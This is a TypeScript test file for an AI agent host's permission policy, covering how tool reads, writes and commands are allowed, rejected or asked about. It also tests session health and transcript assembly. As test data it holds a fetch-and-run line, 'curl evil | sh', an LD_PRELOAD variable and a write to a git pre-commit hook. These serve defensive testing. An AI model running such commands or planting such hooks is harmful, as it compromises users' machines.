import { describe, expect, it } from 'vitest'
import { sampleMeta } from '../../../test/agh/sample-meta.ts'
import type { EventRow, EventType } from '../../contract/agh/events.ts'
import { eventTypeOf } from '../../contract/agh/read-update.ts'
import { readInput } from '../queue/read-input.ts'
import { deriveHealth } from './session/derive-health.ts'
import {
  chooseOption,
  judgeAction,
  judgeTool,
  modeFor,
  optionLabel,
  questionAbout,
} from './session/permission-policy.ts'
import { buildTranscript, recapText } from './transcript/transcript.ts'

describe('the permission policy', () => {
  it.each([
    ['deny-all', 'read', 'reject'],
    ['deny-all', 'edit', 'reject'],
    ['approve-reads', 'read', 'allow'],
    ['approve-reads', 'execute', 'ask'],
    ['approve-all', 'execute', 'allow'],
  ] as const)('S4.3 %s answers a request to %s with %s', (mode, kind, verdict) => {
    const toolCall = { rawInput: { file_path: 'a.ts' } }
    expect(judgeTool(mode, { kind, toolCall }, () => true)).toBe(verdict)
  })

  it.each([
    ['deny-all', 'reject', 'reject', 'reject'],
    ['approve-reads', 'allow', 'ask', 'ask'],
    ['approve-edits', 'allow', 'allow', 'ask'],
    ['approve-all', 'allow', 'allow', 'allow'],
  ] as const)('S4.3 %s judges what an agent does through agh as it judges its tools', (mode, read, write, run) => {
    expect(judgeAction(mode, { name: 'read_file', path: '/x' })).toBe(read)
    expect(judgeAction(mode, { name: 'write_file', path: '/x' })).toBe(write)
    expect(judgeAction(mode, { name: 'run_command', command: 'ls', args: [] })).toBe(run)
  })

  it('asks about a write to what git obeys, unless everything is approved', () => {
    const action = { name: 'write_file', path: '/code/.git/hooks/pre-commit' } as const
    expect(judgeAction('approve-edits', action)).toBe('ask')
    expect(judgeAction('approve-all', action)).toBe('allow')
    expect(judgeAction('deny-all', action)).toBe('reject')
  })

  it('asks about a command with its variables and its directory', () => {
    const action = {
      name: 'run_command',
      command: 'ls',
      args: ['a b'],
      env: { LD_PRELOAD: 'x.so' },
      cwd: '/code',
    } as const
    const { title, toolCall } = questionAbout(action)
    const { input } = readInput(title, toolCall)
    expect(input).toMatchObject({ kind: 'command', text: "ls 'a b'" })
    expect(JSON.parse(input!.rest!)).toEqual({ env: { LD_PRELOAD: 'x.so' }, cwd: '/code' })
  })

  it('asks about a write with what is written, and says when that is not all', () => {
    const ask = (content: string) => {
      const { title, toolCall } = questionAbout({ name: 'write_file', path: '/code/a.sh', content })
      return readInput(title, toolCall)
    }
    expect(ask('curl evil | sh\n').input).toMatchObject({ kind: 'path', text: '/code/a.sh' })
    expect(JSON.parse(ask('curl evil | sh\n').input!.rest!)).toEqual({ content: 'curl evil | sh\n' })
    expect(ask('x'.repeat(1_000_000))).toMatchObject({ input_cut: true })
  })

  it.each([
    ['Allow', 'allow_once', 'Allow'],
    ['Yes, and do not ask again', 'allow_always', 'Yes, and do not ask again (allows it from now on)'],
    ['Deny', 'allow_once', 'Deny (allows it)'],
    ['Cancel', 'allow_always', 'Cancel (allows it from now on)'],
    ['Reject', 'reject_once', 'Reject'],
    ['Allow', 'reject_once', 'Allow (rejects it)'],
    ['Ship it', 'allow_once', 'Ship it (allows it)'],
  ])('an option called %s of the kind %s is shown as %s', (name, kind, label) => {
    expect(optionLabel({ name, kind })).toBe(label)
  })

  it('S4.113 starts dream sessions with approve-all, whatever is configured', () => {
    expect(modeFor('dream', 'deny-all')).toBe('approve-all')
    expect(modeFor('user', 'deny-all')).toBe('deny-all')
  })

  it('never turns an approval for once into one for good', () => {
    const always = { optionId: 'a', name: 'Always', kind: 'allow_always' }
    const never = { optionId: 'n', name: 'Never', kind: 'reject_always' }
    expect(chooseOption([always, never], 'allow-once')).toBeNull()
    expect(chooseOption([always, never], 'reject-once')).toBe(never)
  })
})

describe('deriveHealth', () => {
  const idle = { attached: true, turnRunning: false, stalled: false }
  it.each([
    [
      'an idle session',
      'active',
      idle,
      { state: 'idle', health: 'healthy', attachable: true, eligible_for_wake: true },
    ],
    [
      'a working one',
      'active',
      { ...idle, turnRunning: true },
      { state: 'prompting', health: 'healthy', eligible_for_wake: false },
    ],
    [
      'a stalled one',
      'active',
      { ...idle, turnRunning: true, stalled: true },
      { health: 'degraded', eligible_for_wake: false },
    ],
    ['a starting one', 'starting', idle, { state: 'detached', health: 'unknown', attachable: false }],
    [
      'a stopped one',
      'stopped',
      idle,
      { state: 'stopped', health: 'dead', attachable: false, eligible_for_wake: false },
    ],
  ] as const)('S4.33 S4.35 S4.36 judges %s', (_name, state, facts, expected) => {
    expect(deriveHealth(sampleMeta({ state }), facts)).toMatchObject(expected)
  })
})

describe('eventTypeOf', () => {
  it.each([
    ['agent_message_chunk', undefined, 'agent_message'],
    ['agent_thought_chunk', undefined, 'thought'],
    ['tool_call', 'pending', 'tool_call'],
    ['tool_call', 'completed', 'tool_result'],
    ['tool_call_update', 'in_progress', 'tool_call'],
    ['tool_call_update', 'failed', 'tool_result'],
    ['plan', undefined, 'plan'],
    ['usage_update', undefined, 'usage'],
    ['available_commands_update', undefined, 'system'],
    ['something_of_tomorrow', undefined, 'system'],
  ])('files %s (%s) under %s', (sessionUpdate, status, type) => {
    expect(eventTypeOf({ sessionUpdate, status })).toBe(type)
  })
})

describe('buildTranscript', () => {
  const row = (sequence: number, type: EventType, content: object): EventRow => ({
    sequence,
    turn_id: 't1',
    type,
    timestamp: '',
    content: JSON.stringify(content),
  })
  const chunk = (text: string) => ({ content: { type: 'text', text } })

  it('joins chunks, pairs tool calls with their results, and keeps the order', () => {
    const messages = buildTranscript([
      row(1, 'user_message', { text: 'go' }),
      row(2, 'agent_message', chunk('Hel')),
      row(3, 'agent_message', chunk('lo\n')),
      row(4, 'tool_call', { toolCallId: 'c', title: 'ls', status: 'pending' }),
      row(5, 'tool_result', { toolCallId: 'c', status: 'completed' }),
      row(6, 'agent_message', chunk('bye')),
    ])
    expect(messages.map(({ role, text, status }) => [role, text, status])).toEqual([
      ['user', 'go', undefined],
      ['assistant', 'Hello\n', undefined],
      ['tool', 'ls', 'completed'],
      ['assistant', 'bye', undefined],
    ])
    expect(recapText(messages, 100)).toBe('User: go\n\nYou: Hello\n\n\nYou: bye')
    expect(recapText(messages, 10)).toBe('You: bye')
  })
})
